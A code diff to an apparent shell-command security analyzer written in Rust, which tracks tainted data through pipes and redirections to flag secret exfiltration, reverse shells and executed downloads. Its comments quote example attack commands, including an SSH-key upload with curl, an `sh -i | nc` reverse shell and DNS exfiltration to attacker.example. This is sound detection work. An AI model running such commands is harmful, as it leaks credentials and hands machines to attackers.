@@ -92,18 +92,22 @@ impl Count {
 
 /// Returns hazards of several programs together. `taints` has the taint of each program's own output.
 pub(super) fn of_actions(actions: &Actions<'_>, mut taints: Vec<Taint>, found: &mut Vec<Hazard>) {
+    // In this order: the output of a function includes the secrets that redirections feed into its body.
     redirected_in(actions, &mut taints);
     called(actions, &mut taints);
     for (run, taint) in actions.runs.iter().zip(&taints) {
+        // A program that reads a secret and sends data itself needs no flow: `curl -T ~/.ssh/id_rsa h`.
         if taint.has(Taint::SECRET) && sends(run) {
             found.push(SEND_SECRET.at(run.span));
         }
+        // `pgrep falcon` needs no pipe to search for monitoring.
         found.extend(monitoring_probe::asked(run).map(|together| together.at(run.span)));
     }
-    // Most commands are one program, and have no flow at all.
+    // Most commands are a single program without flows.
     if !actions.flows.is_empty() {
         let mut sources = Sources::default();
         for flow in &actions.flows {
+            // Flows are in the order of the text, so the taint of earlier programs is complete here.
             let from = sources.taint(&flow.from, &taints);
             flows(actions, flow, from, &mut taints, found);
         }
@@ -119,13 +123,14 @@ pub(super) fn of_actions(actions: &Actions<'_>, mut taints: Vec<Taint>, found: &
 fn source(run: &Run<'_>) -> Taint {
     let Some(name) = name_of(run) else { return Taint::default() };
     let mut taint = Taint::default();
+    // The output of these programs is chosen by another machine.
     if network::FETCHERS.contains(name) || matches!(name, "nc" | "ncat" | "netcat" | "socat") {
         taint.add(Taint::FETCHED);
     }
     if decodes(name, run) {
         taint.add(Taint::DECODED);
     }
-    // What was typed before often has passwords in it.
+    // The shell history often contains passwords.
     if name == "history" || (name == "fc" && Command::of(run).is_some_and(|command| command.has("-l"))) {
         taint.add(Taint::SECRET);
         taint.add(Taint::HISTORY);
@@ -135,6 +140,7 @@ fn source(run: &Run<'_>) -> Taint {
         Some(monitoring_probe::Listing::Devices) => taint.add(Taint::DEVICES),
         None => {}
     }
+    // `sh -i | nc h 1` sends the prompt out, and a second pipe brings commands back: a reverse shell.
     if waits_for_commands(name, run) {
         taint.add(Taint::SHELL);
     }
@@ -166,8 +172,8 @@ fn redirected_in(actions: &Actions<'_>, taints: &mut [Taint]) {
     if actions.redirects.is_empty() {
         return;
     }
-    // Where the programs of such redirections begin and end: one pass over all, however many redirections there are.
-    // +1 where a range begins and -1 where it ends: the running sum says how many ranges cover a program.
+    // One pass for all redirections: +1 where a range of programs starts and -1 where it ends. The running sum is the number of
+    // ranges that cover a program.
     let mut edges = vec![0_i64; taints.len() + 1];
     for redirect in actions.redirects.iter().filter(|redirect| redirect.opens_file() && !redirect.writes()) {
         if super::files::is_secret(&redirect.target) {
@@ -204,6 +210,7 @@ fn called(actions: &Actions<'_>, taints: &mut [Taint]) {
         return;
     }
     for (run, taint) in actions.runs.iter().zip(taints) {
+        // By name only: the last definition is unknown, so all functions with this name count.
         if let (InvocationKind::Function, Some(name)) = (run.invocation, run.program()) {
             taint.add(written.get(name).copied().unwrap_or_default());
         }
@@ -236,12 +243,14 @@ fn flows(actions: &Actions<'_>, flow: &Flow, from: Taint, taints: &mut [Taint], 
     if flow.through == DataFlow::Input && from.has(Taint::SHELL) {
         found.extend(readers.iter().filter(|run| connects(run)).map(|run| SHELL_TO_NETWORK.at(run.span)));
     }
+    // `cp $(which sh) x`: the words of the copy come from a program that searches for another.
     if flow.through == DataFlow::Words {
         let finders = actions.runs.get(flow.from.clone()).filter(|finders| finders.len() <= MAX_FINDERS);
         let pairs =
             finders.unwrap_or_default().iter().flat_map(|from| readers.iter().map(move |run| (from, run)));
         found.extend(pairs.filter_map(|(from, run)| hiding::copies(from, run)));
     }
+    // Nearly all flows end here.
     if from == Taint::default() {
         return;
     }
@@ -253,9 +262,11 @@ fn flows(actions: &Actions<'_>, flow: &Flow, from: Taint, taints: &mut [Taint], 
         if is_run && from.has(Taint::FETCHED) {
             found.push(RUN_DOWNLOAD.at(run.span));
         }
+        // Encoded code cannot be reviewed, whether or not it came from the network.
         if is_run && from.has(Taint::DECODED) {
             found.push(RUN_DECODED.at(run.span));
         }
+        // DNS carries data out through names: `dig $(base64 key).attacker.example` reaches the owner of the domain.
         if from.has(Taint::SECRET) && (sends(run) || (flow.through == DataFlow::Words && looks_up(run))) {
             found.push(SEND_SECRET.at(run.span));
         }
@@ -288,7 +299,9 @@ fn sends_input(run: &Run<'_>) -> bool {
                     .texts("-d --data --data-binary --data-raw --json -F --form -T --upload-file")
                     .any(|value| value.ends_with('-'))
         }
+        // These copy files by name, and do not send their standard input.
         "rsync" | "scp" | "gsutil" => false,
+        // Only `rcat` reads standard input. Other subcommands copy files by name.
         "rclone" => command.is_sub(&["rcat"]),
         _ => true,
     }
@@ -307,6 +320,7 @@ fn certain_name<'r>(run: &'r Run<'_>) -> Option<&'r str> {
 fn runs_input(run: &Run<'_>) -> bool {
     let Some(name) = certain_name(run) else { return true };
     let words = || run.argv.iter().skip(1);
+    // These are builtins with the shell's own input, so only an explicit `/dev/stdin` counts.
     if matches!(name, "source" | "." | "eval") {
         return words().any(|word| {
             word.known().is_none_or(|word| matches!(word, "/dev/stdin" | "/proc/self/fd/0" | "-"))
@@ -315,6 +329,7 @@ fn runs_input(run: &Run<'_>) -> bool {
     if !code::is_interpreter(name) {
         return false;
     }
+    // `xargs sh` may add any word, such as `-s`.
     if run.open_ended {
         return true;
     }
@@ -324,10 +339,11 @@ fn runs_input(run: &Run<'_>) -> bool {
             None | Some("-" | "/dev/stdin" | "/proc/self/fd/0") => return true,
             Some(option) if option.starts_with("--") => {}
             Some(option) if option.starts_with(['-', '+']) => {
+                // `sh -s` reads its program from standard input, also in a cluster such as `-es`.
                 if is_shell && option.starts_with('-') && option.contains('s') {
                     return true;
                 }
-                // Code or a module is named, so the input is data.
+                // The code is in an option, so the input is data.
                 if option.contains(['c', 'm', 'e', 'E', 'r', 'p', 'n']) {
                     return false;
                 }
@@ -357,12 +373,14 @@ fn sent_by_redirect(actions: &Actions<'_>, taints: &[Taint], found: &mut Vec<Haz
     if actions.redirects.is_empty() {
         return;
     }
+    // Prefix sums, because a group of redirections can cover all programs: `{ …; } > /dev/tcp/h/1 > /dev/tcp/h/2 …`.
     let secret = Count::of(taints, Taint::SECRET);
     for redirect in &actions.redirects {
         let text = match &redirect.target {
             Arg::Known(text) => text,
             Arg::Unknown { prefix, .. } => prefix,
         };
+        // bash opens a connection for these names, which do not exist in the file system.
         if !text.starts_with("/dev/tcp/") && !text.starts_with("/dev/udp/") {
             continue;
         }
